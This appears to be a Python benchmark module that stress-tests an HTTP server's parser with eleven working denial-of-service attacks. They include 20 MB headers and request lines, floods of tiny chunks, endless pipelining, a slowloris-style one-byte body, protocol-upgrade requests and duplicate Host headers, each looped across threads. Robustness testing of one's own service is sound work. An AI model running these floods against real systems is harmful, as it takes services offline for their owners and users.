"""Attacks on the reading of HTTP itself: lines, headers, chunks, pipelines, other protocols."""

import itertools
from collections.abc import Callable
from typing import Final

from benchmarks.attacks.target import Target, head

PIECE: Final = 64 * 1024
START: Final = b"POST /v1/predict HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n"
CHUNKED: Final = START + b"transfer-encoding: chunked\r\n\r\n"


def header_lines(target: Target) -> None:
    """20 MB of empty headers."""
    lines = b"a:\r\n" * (PIECE // 4)
    target.again_and_again(lambda: target.say([START, *[lines] * 320]), threads=4)


def long_header(target: Target) -> None:
    """One header of 20 MB."""
    target.again_and_again(lambda: target.say([START, b"a: ", *[b"b" * PIECE] * 320]), threads=4)


def long_line(target: Target) -> None:
    """A request line of 20 MB."""
    target.again_and_again(lambda: target.say([b"GET /", *[b"b" * PIECE] * 320]), threads=4)


def tiny_chunks(target: Target) -> None:
    """A million chunks of one byte."""
    chunks = b"1\r\n \r\n" * (PIECE // 6)
    target.again_and_again(lambda: target.say([CHUNKED, *[chunks] * 100]), threads=4)


def chunk_extensions(target: Target) -> None:
    """A chunk whose extension has no end."""
    target.again_and_again(lambda: target.say([CHUNKED, b"1;a=", *[b"b" * PIECE] * 320]), threads=4)


def trailers(target: Target) -> None:
    """20 MB of trailers."""
    lines = b"a: b\r\n" * (PIECE // 6)
    target.again_and_again(lambda: target.say([CHUNKED, b"0\r\n", *[lines] * 320]), threads=4)


def pipelines(target: Target) -> None:
    """Requests without end, and nobody who reads an answer."""
    flood = head("GET", "/metrics", {}) * 1000
    target.again_and_again(lambda: target.say(itertools.repeat(flood)), threads=4)


def single_bytes(target: Target) -> None:
    """A body in pieces of one byte, each a packet of its own."""

    def once() -> None:
        with target.connect() as opened:
            opened.setsockopt(6, 1, 1)  # TCP_NODELAY
            opened.sendall(START + b"content-length: 1000000\r\n\r\n")
            while not target.over:
                opened.sendall(b" ")

    target.again_and_again(once, threads=4)


def garbage(target: Target) -> None:
    """What is no HTTP at all."""
    target.again_and_again(lambda: target.say([bytes(range(256)) * 256]), threads=2)


def upgrades(target: Target) -> None:
    """Requests to speak another protocol, with more behind them."""
    wanted = {"connection": "Upgrade, HTTP2-Settings", "upgrade": "h2c", "http2-settings": "AAMAAABk"}
    websocket = {"connection": "Upgrade", "upgrade": "websocket", "sec-websocket-key": "x" * 22 + "=="}
    pieces = [head("GET", "/healthz", wanted), b"x" * PIECE, head("GET", "/healthz", websocket), b"x" * PIECE]
    target.again_and_again(lambda: target.say(pieces), threads=2)


def two_hosts(target: Target) -> None:
    """Two names for one server."""
    target.again_and_again(lambda: target.say([b"GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\nhost: evil\r\n\r\n"]))


ATTACKS: Final[dict[str, Callable[[Target], None]]] = {
    "header_lines": header_lines,
    "long_header": long_header,
    "long_line": long_line,
    "tiny_chunks": tiny_chunks,
    "chunk_extensions": chunk_extensions,
    "trailers": trailers,
    "pipelines": pipelines,
    "single_bytes": single_bytes,
    "garbage": garbage,
    "upgrades": upgrades,
    "two_hosts": two_hosts,
}
